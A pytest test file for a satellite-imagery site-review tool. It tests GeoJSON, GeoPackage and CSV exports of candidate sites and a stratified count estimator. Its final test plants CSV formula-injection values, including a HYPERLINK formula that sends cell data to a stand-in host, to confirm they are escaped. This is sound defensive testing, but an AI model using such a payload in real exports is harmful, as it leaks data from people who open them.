"""Exports (GeoJSON, GeoPackage, CSV) read back as training labels, and the stratified estimate."""

from __future__ import annotations

import csv
import json
import math
import shutil

import numpy as np
import pyogrio
import pytest
import shapely

from sitewatch.imagery.candidates.estimate import (
    allocate,
    draw_sample,
    estimate,
    interval,
    recall_scaled,
    score_strata,
    stratified_estimate,
    write_estimate,
)
from sitewatch.imagery.candidates.export import export_sites
from sitewatch.imagery.candidates.store import CandidateStore, Detection, RunInfo, SceneInfo
from sitewatch.imagery.detect.report import ccw_rings
from sitewatch.imagery.errors import OutputError, UsageError
from sitewatch.imagery.scenes.georef import box_corners, pixel_to_map, to_lonlat
from sitewatch.imagery.scenes.scene import open_scene
from sitewatch.imagery.synthetic.sentinel2 import make_scene
from sitewatch.training.labels import LabelOptions, read_labels

BANDS = ("B02", "B03", "B04", "B08")
CLASSES = ("vessel", "kiln")
LON0, LAT0 = 88.40, 22.60


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    """A synthetic scene and a store whose detections are exactly its planted objects."""
    d = tmp_path_factory.mktemp("planted")
    path = d / "S2A_20240115_delta.tif"
    objects = make_scene(path, seed=2, width=256, height=256, n_vessels=4, n_kilns=4)
    scene = open_scene(path, BANDS)
    boxes = np.array([o.box for o in objects], dtype=float)
    cols, rows = box_corners(boxes)
    x, y = pixel_to_map(scene.affine, cols, rows)
    lon, lat = to_lonlat(scene.crs_wkt, x.ravel(), y.ravel())
    rings = np.round(ccw_rings(np.stack([lon.reshape(-1, 4), lat.reshape(-1, 4)], axis=2)), 7)
    dets = [Detection(scene.name, o.cls, 0.9 - 0.05 * i, float(r[:4, 0].mean()), float(r[:4, 1].mean()),
                      tuple(map(tuple, r))) for i, (o, r) in enumerate(zip(objects, rings, strict=True))]
    store = CandidateStore.create(d / "candidates.gpkg")
    info = SceneInfo(scene.name, str(path), "2024-01-15", scene.width, scene.height, (0, 0, 1, 1))
    store.add_detections(RunInfo("2024-01-15T00:00:00Z", "2024-01-15T00:00:01Z", "test", "1"), [info], dets)
    ids = [s.site_id for s in store.sites()]
    assert len(ids) == 8  # one site per planted object
    # vessel-000001 and kiln-000001 confirmed, vessel-000002 and kiln-000002 rejected, one unsure.
    for sid, status in (("vessel-000001", "confirmed"), ("kiln-000001", "confirmed"), ("vessel-000002", "rejected"),
                        ("kiln-000002", "rejected"), ("kiln-000003", "unsure")):
        store.review(sid, status, "ana", f"{status} in the test")
    return store, scene, objects


# --- export ----------------------------------------------------------------------------------------


def test_geojson_export_is_rfc7946_and_trains_as_positives_and_hard_negatives(planted, tmp_path):
    store, scene, objects = planted
    out = tmp_path / "labels.geojson"
    assert export_sites(store, out) == 8
    fc = json.loads(out.read_text())
    assert fc["type"] == "FeatureCollection" and "crs" not in fc and len(fc["features"]) == 8
    for f in fc["features"]:
        (ring,) = f["geometry"]["coordinates"]
        assert f["geometry"]["type"] == "Polygon" and ring[0] == ring[-1] and shapely.Polygon(ring).exterior.is_ccw
        p = f["properties"]
        assert {"site_id", "class", "status", "max_score", "mean_score", "first_seen", "last_seen", "reviewer",
                "note", "lon", "lat"} <= set(p)
        assert f["id"] == p["site_id"]

    labels = read_labels([out], [scene], LabelOptions(classes=CLASSES))
    sl = labels.scenes[0]
    assert labels.counts["positives"] == 2 and labels.counts["negatives"] == 2 and labels.counts["unused"] == 4
    truth = {(o.cls, tuple(np.round(o.box))) for o in objects}
    got = {(CLASSES[int(c)], tuple(np.round(b))) for b, c in zip(sl.boxes, sl.labels, strict=True)}
    assert got <= truth and {c for c, _ in got} == {"vessel", "kiln"}
    for b, c in zip(sl.boxes, sl.labels, strict=True):  # each positive box is its planted box to half a pixel
        o = min((o for o in objects if o.cls == CLASSES[int(c)]), key=lambda o: np.abs(np.array(o.box) - b).sum())
        assert np.allclose(o.box, b, atol=0.5)
    centres = np.array([((o.box[0] + o.box[2]) / 2, (o.box[1] + o.box[3]) / 2) for o in objects])
    for n in sl.negatives:
        assert np.linalg.norm(centres - n, axis=1).min() < 0.5


def test_status_and_class_filters(planted, tmp_path):
    store, _, _ = planted
    out = tmp_path / "confirmed.geojson"
    assert export_sites(store, out, statuses=["confirmed"]) == 2
    assert {f["properties"]["status"] for f in json.loads(out.read_text())["features"]} == {"confirmed"}
    assert export_sites(store, tmp_path / "k.geojson", statuses=["confirmed", "rejected"], classes=["kiln"]) == 2
    with pytest.raises(UsageError, match="'done'"):
        export_sites(store, tmp_path / "x.geojson", statuses=["done"])


def test_csv_export_has_lon_lat_per_site(planted, tmp_path):
    store, _, _ = planted
    out = tmp_path / "sites.csv"
    assert export_sites(store, out) == 8
    with open(out, newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == 8 and list(rows[0])[:5] == ["site_id", "class", "status", "lon", "lat"]
    by_id = {r["site_id"]: r for r in rows}
    site = store.site("kiln-000001")
    assert float(by_id["kiln-000001"]["lon"]) == pytest.approx(site.lon) and by_id["kiln-000001"]["status"] == "confirmed"
    assert by_id["kiln-000001"]["scenes"] == "S2A_20240115_delta" and by_id["kiln-000004"]["reviewer"] == ""


def test_gpkg_export_opens_in_gdal(planted, tmp_path):
    store, _, _ = planted
    out = tmp_path / "sites.gpkg"
    assert export_sites(store, out, statuses=["confirmed", "rejected", "unsure"]) == 5
    # the sites, and QGIS's style table that colours them by status (a table, not a layer, to QGIS)
    assert [list(x) for x in pyogrio.list_layers(out)] == [["sites", "Polygon"], ["layer_styles", None]]
    info = pyogrio.read_info(out, layer="sites")
    assert info["crs"] == "EPSG:4326" and info["features"] == 5 and {"site_id", "status", "class"} <= set(info["fields"])
    assert info["capabilities"]["fast_spatial_filter"]  # GDAL sees the R-tree


def test_export_is_atomic_and_refuses_to_overwrite(planted, tmp_path):
    store, _, _ = planted
    out = tmp_path / "labels.geojson"
    out.write_text("keep me")
    with pytest.raises(OutputError, match="--overwrite") as info:
        export_sites(store, out)
    assert info.value.exit_code == 5 and out.read_text() == "keep me"
    assert export_sites(store, out, overwrite=True) == 8
    assert sorted(p.name for p in tmp_path.iterdir()) == ["labels.geojson"]  # no temporary file left
    with pytest.raises(UsageError, match="--format"):
        export_sites(store, tmp_path / "labels.txt")
    assert export_sites(store, tmp_path / "new" / "x.csv") == 8  # missing directories are created
    (tmp_path / "afile").write_text("x")
    with pytest.raises(OutputError, match="parent path is a file"):
        export_sites(store, tmp_path / "afile" / "x.csv")


# --- the estimator on numbers --------------------------------------------------------------------


def test_allocation_is_proportional_with_two_per_stratum():
    assert allocate([10, 10, 10, 10], 12) == [3, 3, 3, 3]
    a = allocate([100, 10, 5, 1], 10)
    assert sum(a) == 10 and a[1:] == [2, 2, 1] and a[0] == 5
    assert allocate([300, 100], 40) == [30, 10]
    assert allocate([3, 3], 100) == [3, 3]
    assert allocate([50, 50, 50], 2) == [0, 1, 1]  # fewer than 2 per stratum: never more than asked


def test_score_strata_are_equal_sized_score_bins():
    scores = [0.9, 0.1, 0.5, 0.3, 0.7, 0.2, 0.8, 0.6]
    strata = score_strata(scores, 4)
    assert [strata[i] for i in np.argsort(scores)] == [0, 0, 1, 1, 2, 2, 3, 3]
    assert score_strata([0.5, 0.5, 0.5], 5) == [0, 1, 2]


def test_stratified_estimate_by_hand():
    est, se = stratified_estimate([10, 20], [4, 5], [1, 4])
    assert est == pytest.approx(10 * 0.25 + 20 * 0.8)
    q1, q2 = 3 / 8, 6 / 9  # Agresti-Coull shares (k + 2) / (n + 4) in the variance
    var = 100 * (1 - 4 / 10) * q1 * (1 - q1) / 3 + 400 * (1 - 5 / 20) * q2 * (1 - q2) / 4
    assert se == pytest.approx(math.sqrt(var))
    est, se = stratified_estimate([30], [6], [6])  # a sample all confirmed still leaves sampling error
    assert est == 30.0 and se == pytest.approx(math.sqrt(900 * (1 - 6 / 30) * (0.8 * 0.2) / 5)) and se > 0
    assert stratified_estimate([5, 1], [5, 1], [3, 1]) == (4.0, 0.0)  # every site reviewed: no sampling error
    with pytest.raises(UsageError, match="stratum 2"):
        stratified_estimate([10, 20], [4, 1], [1, 1])
    assert interval(10.0, 5.0, 6.0, 15.0) == (10.0, 6.0, 15.0)
    t, t_se = recall_scaled(100.0, 10.0, 0.8, 0.05)
    assert t == 125.0 and t_se == pytest.approx(math.sqrt(100 / 0.64 + 100**2 * 0.05**2 / 0.8**4))
    with pytest.raises(UsageError, match="--recall"):
        recall_scaled(100.0, 10.0, 0.0, 0.0)


def test_the_95_percent_interval_covers_the_truth_95_percent_of_the_time():
    """200 seeded draws from a population with known precision per score stratum."""
    sizes = [150, 120, 90, 40]
    truth = [np.random.default_rng(123).random(s) < p for s, p in zip(sizes, [0.15, 0.45, 0.75, 0.95], strict=True)]
    true_count = sum(int(t.sum()) for t in truth)
    alloc = allocate(sizes, 60)
    covered, estimates = 0, []
    for seed in range(200):
        rng = np.random.default_rng(seed)
        confirmed = [int(t[rng.choice(len(t), size=n, replace=False)].sum()) for t, n in zip(truth, alloc, strict=True)]
        est, se = stratified_estimate(sizes, alloc, confirmed)
        rejected = sum(alloc) - sum(confirmed)
        _, low, high = interval(est, se, sum(confirmed), sum(sizes) - rejected)
        covered += low <= true_count <= high
        estimates.append(est)
    assert 0.88 <= covered / 200 <= 0.99
    assert abs(np.mean(estimates) - true_count) < 0.02 * true_count  # unbiased


@pytest.mark.parametrize("precision", [[0.9, 0.95, 1.0, 1.0], [0.0, 0.05, 0.1, 0.6]])
def test_the_interval_still_covers_when_most_samples_are_all_alike(precision: list[float]) -> None:
    """Kiln-like runs: 20 reviews of 100 candidates that are nearly all real (or nearly all not).

    With the plain share p_h a stratum sampled all confirmed claims zero variance, and this
    interval covered the true count in 57% (resp. 66%) of draws; the Agresti-Coull share in
    the variance brings it back above 95%.
    """
    sizes = [40, 30, 20, 10]
    truth = [np.random.default_rng(123).random(s) < p for s, p in zip(sizes, precision, strict=True)]
    true_count = sum(int(t.sum()) for t in truth)
    alloc = allocate(sizes, 20)
    covered = 0
    for seed in range(200):
        rng = np.random.default_rng(seed)
        confirmed = [int(t[rng.choice(len(t), size=n, replace=False)].sum()) for t, n in zip(truth, alloc, strict=True)]
        est, se = stratified_estimate(sizes, alloc, confirmed)
        _, low, high = interval(est, se, sum(confirmed), sum(sizes) - (sum(alloc) - sum(confirmed)))
        covered += low <= true_count <= high
        assert high > low
    assert covered / 200 >= 0.95


# --- sample and estimate through the store -----------------------------------------------------------


@pytest.fixture
def many(tmp_path, add_scene):
    """40 kiln sites scored 0.30..0.99 and 10 vessel sites, ~1 km apart."""
    store = CandidateStore.create(tmp_path / "candidates.gpkg")
    kilns = [("kiln", LON0 + 0.01 * i, LAT0, round(0.3 + 0.69 * i / 39, 4)) for i in range(40)]
    vessels = [("vessel", LON0 + 0.01 * i, LAT0 + 0.1, 0.5 + 0.04 * i) for i in range(10)]
    add_scene(store, "s1", kilns + vessels)
    return store


def test_a_sample_is_stratified_recorded_and_reproducible(many, tmp_path):
    copy = tmp_path / "copy.gpkg"
    shutil.copy(many.path, copy)
    draws = {d.cls: d for d in draw_sample(many, 12, seed=7)}
    assert draws["kiln"].sizes == (10, 10, 10, 10) and draws["kiln"].sample == (3, 3, 3, 3)
    assert sum(draws["vessel"].sample) == 10 and draws["kiln"].seed == 7  # vessels: all 10
    members = many.sample("kiln")
    assert len(members) == 12 and {m.stratum for m in members} == {1, 2, 3, 4} and {m.seed for m in members} == {7}
    score = {s.site_id: s.max_score for s in many.sites()}
    by_stratum = [sorted(score[m.site_id] for m in members if m.stratum == h) for h in (1, 2, 3, 4)]
    assert all(max(a) < min(b) for a, b in zip(by_stratum, by_stratum[1:], strict=False))  # score bins
    assert {s.site_id for s in many.sites(in_sample=True, cls="kiln")} == {m.site_id for m in members}
    again = CandidateStore(copy)
    draw_sample(again, 12, seed=7)
    assert [m.site_id for m in again.sample()] == [m.site_id for m in many.sample()]
    with pytest.raises(UsageError, match="--redraw"):
        draw_sample(many, 12, seed=8)
    draw_sample(many, 12, seed=8, redraw=True, classes=["kiln"])
    assert {m.draw_id for m in many.sample("kiln")} == {3} and {m.draw_id for m in many.sample("vessel")} == {2}
    with pytest.raises(UsageError, match="--class tower"):
        draw_sample(many, 12, classes=["tower"], redraw=True)


def test_estimate_from_the_reviewed_sample(many, tmp_path, add_scene):
    draw_sample(many, 20, seed=3, classes=["kiln"])
    with pytest.raises(UsageError, match="no review sample"):
        estimate(CandidateStore.create(tmp_path / "empty.gpkg"))
    (first,) = estimate(many)
    assert first.estimate is None and "not enough reviews" in (first.problem or "")
    # Truth: kilns scoring at least 0.6 are real. One sampled site stays unsure, one unreviewed.
    members = many.sample("kiln")
    score = {s.site_id: s.max_score for s in many.sites()}
    for m in members[2:]:
        many.review(m.site_id, "confirmed" if score[m.site_id] >= 0.6 else "rejected", "ana")
    many.review(members[0].site_id, "unsure", "ben")
    many.review("kiln-000040", "confirmed", "ana")  # outside the sample: counts for the bounds only
    (e,) = estimate(many, recall={"kiln": 0.8}, recall_se={"kiln": 0.05})
    assert e.cls == "kiln" and e.candidates == 40 and e.problem is None
    tally = {h: [0, 0] for h in (1, 2, 3, 4)}
    sizes = {s.stratum: s.sites for s in e.strata}
    for m in many.sample("kiln"):
        status = many.site(m.site_id).status
        if status in ("confirmed", "rejected"):
            tally[m.stratum][0] += 1
            tally[m.stratum][1] += status == "confirmed"
    est, se = stratified_estimate([sizes[h] for h in (1, 2, 3, 4)], [tally[h][0] for h in (1, 2, 3, 4)],
                                  [tally[h][1] for h in (1, 2, 3, 4)])
    assert e.estimate == pytest.approx(min(max(est, e.confirmed), 40 - e.rejected)) and e.se == pytest.approx(se)
    assert e.low == pytest.approx(max(est - 1.959964 * se, e.confirmed))
    assert e.high == pytest.approx(min(est + 1.959964 * se, 40 - e.rejected))
    outside = "kiln-000040" not in {m.site_id for m in members}
    assert e.confirmed == sum(t[1] for t in tally.values()) + outside
    assert sum(s.unsure for s in e.strata) == 1 and sum(s.unreviewed for s in e.strata) == 1
    assert e.unsure_as_not_real <= e.estimate <= e.unsure_as_real
    true_real = sum(v >= 0.6 for k, v in score.items() if k.startswith("kiln"))
    assert e.low <= true_real <= e.high
    assert e.with_missed is not None and e.with_missed["estimate"] == pytest.approx(e.estimate / 0.8)
    # Sites added after the draw are reported, not silently mixed in.
    add_scene(many, "s2", [("kiln", LON0 + 5, LAT0, 0.9)])
    (later,) = estimate(many)
    assert later.added_since_draw == 1 and later.candidates == 40 and later.estimate == pytest.approx(e.estimate)
    path = write_estimate(tmp_path, [later])
    doc = json.loads(path.read_text())
    assert doc["classes"]["kiln"]["estimate"] == pytest.approx(later.estimate) and "missed" in doc["what"]


def test_csv_export_keeps_formulas_as_text(planted, tmp_path):
    """A note or reviewer that a spreadsheet would run (=HYPERLINK, +, -, @) comes out with a
    leading quote; numbers, negative ones included, stay numbers."""
    store, _, _ = planted
    evil = {"kiln-000001": ('=HYPERLINK("http://x.example/?"&A1,"click")', "ana"),
            "kiln-000002": ("+1+2", "@bob"), "kiln-000003": ("-2+3", "plain")}
    for site_id, (note, reviewer) in evil.items():
        store.review(site_id, "confirmed", reviewer, note)
    out = tmp_path / "sites.csv"
    export_sites(store, out)
    with open(out, newline="") as f:
        by_id = {r["site_id"]: r for r in csv.DictReader(f)}
    assert by_id["kiln-000001"]["note"] == "'" + evil["kiln-000001"][0]
    assert by_id["kiln-000002"]["note"] == "'+1+2" and by_id["kiln-000002"]["reviewer"] == "'@bob"
    assert by_id["kiln-000003"]["note"] == "'-2+3" and by_id["kiln-000003"]["reviewer"] == "plain"
    for row in by_id.values():
        assert not row["note"].startswith(("=", "+", "-", "@"))
        float(row["lon"]), float(row["lat"])  # numbers are left as numbers
